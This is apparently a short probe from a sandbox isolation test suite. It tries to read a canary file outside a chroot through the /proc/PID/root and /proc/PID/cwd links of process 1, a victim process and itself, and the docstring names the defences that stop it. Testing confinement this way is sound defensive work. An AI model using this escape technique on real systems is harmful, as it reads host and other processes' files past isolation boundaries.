"""Reach the host's files through the links that /proc keeps to other processes' roots and folders.

origin: proc(5): /proc/PID/root and /proc/PID/cwd lead out of a chroot
stopped by: PID namespace, process 1 not dumpable
control: user
"""

import os

from attempt import attempt

secret = os.environ["CANARY_PATH"]
victim = os.environ["VICTIM_PID"]
for start in ("/proc/1/root", f"/proc/{victim}/root", "/proc/self/root", "/proc/thread-self/root"):
    with attempt(start):
        os.write(1, open(start + secret, "rb").read())
for start in ("/proc/1/cwd", f"/proc/{victim}/cwd", "/proc/self/cwd"):
    with attempt(start):
        os.write(1, open(f"{start}/canary", "rb").read())
